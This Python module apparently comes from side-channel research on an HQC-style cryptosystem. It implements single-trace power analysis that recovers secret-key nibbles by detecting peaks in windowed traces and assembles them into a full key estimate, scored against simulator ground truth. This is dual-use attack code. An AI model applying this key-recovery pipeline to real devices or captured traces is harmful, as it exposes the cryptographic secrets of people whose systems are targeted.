"""Single-trace recovery of scanned-operand nibbles from power traces.

The pipeline per 64-bit limb: crop the trace into its 16 window segments,
detect peaks in each segment, and classify each window's selected table
index (one nibble of the limb) from the peak pattern.

Two classifiers are used:

  drop        find the largest height decrease between adjacent peaks; the
              peak before it is the tall selected one, so its index is the
              nibble. A drop in the very first gap is ignored: a selection
              at index 0 adds no accumulator step (table entry 0 is zero),
              so windows with nibble 0 and 15 both look flat inside and are
              told apart by whether the tallest peak sits first or last.
  secondary   from the second window on, each main peak carries a smaller
              companion peak, left of it before the selection and right of
              it from the selection onward; the first main peak with a
              right-side companion marks the nibble.

recover_limb applies the drop classifier to window 0 and the secondary
classifier (drop as fallback) to windows 1..15. recover_key assembles limb
recoveries into a full sparse-key estimate using the base-call index map
from the multiplication schedule.
"""

import json
from dataclasses import dataclass, field
from typing import Optional

import numpy as np

from .gf2x import GF2Poly
from .hqc import RingParams
from .leakage import ITERS, Trace, TraceLayout


class WindowClassificationError(ValueError):
    """A window's peaks could not be classified."""


class TraceBoundsError(ValueError):
    """A crop reaches past the end of the trace."""


@dataclass
class PeakSet:
    """Detected peaks: strictly increasing sample indices and their heights."""

    indices: np.ndarray
    heights: np.ndarray

    def __post_init__(self):
        self.indices = np.asarray(self.indices, dtype=np.intp)
        self.heights = np.asarray(self.heights, dtype=np.float64)
        if len(self.indices) != len(self.heights):
            raise ValueError("indices and heights differ in length")
        if len(self.indices) > 1 and not np.all(np.diff(self.indices) > 0):
            raise ValueError("peak indices must be strictly increasing")

    def __len__(self):
        return len(self.indices)


def _local_maxima(x: np.ndarray) -> np.ndarray:
    """Indices of strict local maxima; plateaus report their leftmost sample."""
    n = len(x)
    if n < 3:
        return np.empty(0, dtype=np.intp)
    d = np.diff(x)
    m = len(d)
    # nxt[j]: index of the first nonzero step at or after j (m if none)
    pos = np.where(d != 0, np.arange(m), m)
    nxt = np.minimum.accumulate(pos[::-1])[::-1]
    cand = np.flatnonzero(d > 0) + 1          # rose into these positions
    cand = cand[cand < n - 1]                  # last sample cannot be a peak
    j = nxt[cand]                              # first step after the plateau
    keep = (j < m) & (d[np.minimum(j, m - 1)] < 0)
    return cand[keep].astype(np.intp)


def _prominences(x: np.ndarray, peaks: np.ndarray) -> np.ndarray:
    """Prominence of each peak: height above the higher of the two valley
    floors reached before meeting a taller peak (or the signal edge)."""
    k = len(peaks)
    if k == 0:
        return np.empty(0)
    heights = x[peaks]
    # valley[i]: min between peak i-1 and peak i (edge regions at both ends)
    starts = np.concatenate(([0], peaks))
    valley = np.minimum.reduceat(x, starts)
    out = np.empty(k)
    for i in range(k):
        h = heights[i]
        left = valley[i]
        j = i - 1
        while j >= 0 and heights[j] <= h:
            left = min(left, valley[j])
            j -= 1
        right = valley[i + 1]
        j = i + 1
        while j < k and heights[j] <= h:
            right = min(right, valley[j + 1])
            j += 1
        out[i] = h - max(left, right)
    return out


def find_peaks(samples, min_distance: int = 1, min_prominence: float = 0.0) -> PeakSet:
    """Local maxima filtered by prominence, then thinned to min_distance.

    Thinning is greedy highest-first (ties resolved leftmost), so a tall
    peak always wins over nearby smaller ones.
    """
    if min_distance < 1:
        raise ValueError("min_distance must be at least 1")
    x = np.asarray(samples, dtype=np.float64)
    cand = _local_maxima(x)
    if len(cand) == 0:
        return PeakSet(np.empty(0, dtype=np.intp), np.empty(0))

    # prominence can never exceed height minus the global minimum, which
    # prunes the bulk of noise candidates before the exact computation
    if min_prominence > 0:
        cand = cand[x[cand] - x.min() >= min_prominence]
        if len(cand) == 0:
            return PeakSet(np.empty(0, dtype=np.intp), np.empty(0))
    prom = _prominences(x, cand)
    cand = cand[prom >= min_prominence]

    if min_distance > 1 and len(cand) > 1:
        order = np.argsort(-x[cand], kind="stable")
        kept = []
        for i in order:
            p = cand[i]
            if all(abs(p - q) >= min_distance for q in kept):
                kept.append(p)
        cand = np.array(sorted(kept), dtype=np.intp)
    return PeakSet(cand, x[cand])


def crop_window(trace: Trace, window_index: int, layout: TraceLayout = None) -> np.ndarray:
    """The contiguous sample segment covering one window's 16 iterations."""
    if layout is None:
        layout = TraceLayout.for_trace(trace)
    if not 0 <= window_index < layout.windows:
        raise ValueError(f"window index {window_index} out of range")
    start = layout.scan_start + window_index * layout.window_len
    stop = start + layout.window_len
    if start < 0 or stop > len(trace.samples):
        raise TraceBoundsError("window crop exceeds trace bounds")
    return trace.samples[start:stop]


def classify_window_drop(peaks: PeakSet, drop_threshold: float = 0.5) -> int:
    """Nibble from the drop position, edge values from the tallest peak.

    Scans the gaps between adjacent peaks, skipping the first gap (see
    module docstring), for the largest height decrease. If it clears the
    threshold, the count of peaks strictly before the tall pre-drop peak
    is the nibble. Otherwise the window is flat inside and the tallest
    peak's position decides: first peak means 0, last means 15.
    """
    if len(peaks) != ITERS:
        raise WindowClassificationError(f"expected {ITERS} peaks, found {len(peaks)}")
    h = peaks.heights
    drops = h[:-1] - h[1:]
    j = 1 + int(np.argmax(drops[1:]))
    if drops[j] >= drop_threshold:
        return j
    tallest = int(np.argmax(h))
    if tallest == 0:
        return 0
    if tallest == ITERS - 1:
        return ITERS - 1
    return tallest


def classify_window_secondary(peaks: PeakSet, sub_peaks: PeakSet,
                              pair_radius: int = 9) -> int:
    """Nibble from the first main peak whose companion peak sits to its right.

    Each main peak is paired with the nearest secondary peak within
    pair_radius samples; unpaired mains are skipped. Fails if no main has
    a right-side companion.
    """
    if len(peaks) != ITERS:
        raise WindowClassificationError(f"expected {ITERS} main peaks, found {len(peaks)}")
    if len(sub_peaks) == 0:
        raise WindowClassificationError("no secondary peaks")
    subs = sub_peaks.indices
    for i, p in enumerate(peaks.indices):
        d = np.abs(subs - p)
        nearest = int(np.argmin(d))
        if d[nearest] > pair_radius:
            continue
        if subs[nearest] > p:
            return i
    raise WindowClassificationError("no main peak with a right-side companion")


def _split_main_secondary(peaks: PeakSet):
    """Split a pooled PeakSet into main and secondary groups by height.

    Threshold at the midpoint of the height range; a set of exactly 16
    peaks is taken as mains only (a window without secondary peaks).
    """
    if len(peaks) == ITERS:
        return peaks, PeakSet(np.empty(0, dtype=np.intp), np.empty(0))
    mid = (peaks.heights.min() + peaks.heights.max()) / 2
    main = peaks.heights > mid
    return (
        PeakSet(peaks.indices[main], peaks.heights[main]),
        PeakSet(peaks.indices[~main], peaks.heights[~main]),
    )


@dataclass(frozen=True)
class AttackConfig:
    """Detection and classification thresholds, echoed into every report.

    Defaults fit the simulator's default amplitudes. select_amp_estimate is
    the attacker's estimate of the selected-iteration spike; the drop
    threshold is drop_fraction times that estimate.
    """

    min_distance: int = 4
    main_prominence: float = 3.0
    sub_prominence: float = 0.75
    drop_fraction: float = 0.5
    select_amp_estimate: float = 1.0
    pair_slack: int = 2
    layout: Optional[TraceLayout] = None

    @property
    def drop_threshold(self) -> float:
        return self.drop_fraction * self.select_amp_estimate

    def to_dict(self) -> dict:
        out = {
            "min_distance": self.min_distance,
            "main_prominence": self.main_prominence,
            "sub_prominence": self.sub_prominence,
            "drop_fraction": self.drop_fraction,
            "select_amp_estimate": self.select_amp_estimate,
            "pair_slack": self.pair_slack,
        }
        if self.layout is not None:
            out["layout"] = {
                "scan_start": self.layout.scan_start,
                "samples_per_iter": self.layout.samples_per_iter,
                "windows": self.layout.windows,
            }
        return out


@dataclass
class RecoveryReport:
    """Per-window recovery of one limb, with truth comparison when known.

    classified[w] is False when window w produced no classification at all
    (peak detection or both classifiers failed); its recovered entry is a
    zero placeholder then.
    """

    recovered: list
    truth: Optional[list]
    per_window_success: Optional[list]
    limb_success: Optional[bool]
    classified: list = field(default_factory=list)
    config: dict = field(default_factory=dict)

    @property
    def recovered_limb(self) -> int:
        v = 0
        for k, nib in enumerate(self.recovered):
            v |= (nib & 15) << (4 * k)
        return v

    def to_json(self) -> str:
        obj = {
            "recovered": f"{self.recovered_limb:016x}",
            "recovered_nibbles": list(self.recovered),
            "config": self.config,
        }
        if self.truth is not None:
            truth_limb = 0
            for k, nib in enumerate(self.truth):
                truth_limb |= (nib & 15) << (4 * k)
            obj["truth"] = f"{truth_limb:016x}"
            obj["per_window_success"] = list(self.per_window_success)
            obj["limb_success"] = self.limb_success
        return json.dumps(obj, indent=2)


def recover_limb(trace: Trace, cfg: AttackConfig = None) -> RecoveryReport:
    """Recover all 16 nibbles of the scanned limb from one trace.

    Window 0 goes through the drop classifier; windows 1..15 through the
    secondary-peak classifier with the drop method as fallback. Windows
    that cannot be classified are reported failed, never raised.
    """
    if cfg is None:
        cfg = AttackConfig()
    layout = cfg.layout if cfg.layout is not None else TraceLayout.for_trace(trace)
    pair_radius = max(1, layout.samples_per_iter // 4) + cfg.pair_slack

    recovered = []
    window_ok = []
    for w in range(layout.windows):
        nibble = 0
        ok = True
        try:
            seg = crop_window(trace, w, layout)
            if w == 0:
                peaks = find_peaks(seg, cfg.min_distance, cfg.main_prominence)
                nibble = classify_window_drop(peaks, cfg.drop_threshold)
            else:
                pooled = find_peaks(seg, cfg.min_distance, cfg.sub_prominence)
                mains, subs = _split_main_secondary(pooled)
                try:
                    nibble = classify_window_secondary(mains, subs, pair_radius)
                except WindowClassificationError:
                    nibble = classify_window_drop(mains, cfg.drop_threshold)
        except (WindowClassificationError, TraceBoundsError):
            ok = False
        recovered.append(nibble)
        window_ok.append(ok)

    truth = trace.meta.truth
    if truth is None:
        return RecoveryReport(recovered, None, None, None, window_ok, cfg.to_dict())
    truth_nibbles = [(truth >> (4 * k)) & 15 for k in range(layout.windows)]
    success = [ok and got == want
               for ok, got, want in zip(window_ok, recovered, truth_nibbles)]
    return RecoveryReport(recovered, truth_nibbles, success, all(success),
                          window_ok, cfg.to_dict())


@dataclass
class KeyRecoveryReport:
    """Whole-key recovery outcome assembled from per-limb reports."""

    recovered_key: GF2Poly
    limb_reports: dict
    unrecovered: list
    per_limb_success: Optional[dict]
    exact_match: Optional[bool]


def recover_key(traces: dict, mapping: dict, params: RingParams,
                cfg: AttackConfig = None) -> KeyRecoveryReport:
    """Assemble a full secret-key estimate from per-base-call traces.

    mapping sends base-call indices to key limb indices; limbs without a
    mapped trace are reported unrecovered and left zero in the estimate.
    """
    nlimbs = params.nlimbs
    limbs = [0] * nlimbs
    reports = {}
    successes = {}
    seen = set()
    for call_index, limb_index in sorted(mapping.items()):
        if not 0 <= limb_index < nlimbs:
            raise ValueError(f"limb index {limb_index} outside the key")
        if call_index not in traces:
            continue
        rep = recover_limb(traces[call_index], cfg)
        reports[limb_index] = rep
        limbs[limb_index] = rep.recovered_limb
        seen.add(limb_index)
        if rep.limb_success is not None:
            successes[limb_index] = rep.limb_success

    unrecovered = sorted(set(range(nlimbs)) - seen)
    top = params.n % 64
    if top:
        limbs[-1] &= (1 << top) - 1
    key = GF2Poly(limbs, params.n)
    have_truth = len(successes) == len(reports) and len(reports) > 0
    exact = None
    if have_truth:
        exact = not unrecovered and all(successes.values())
    return KeyRecoveryReport(key, reports, unrecovered,
                             successes if have_truth else None, exact)
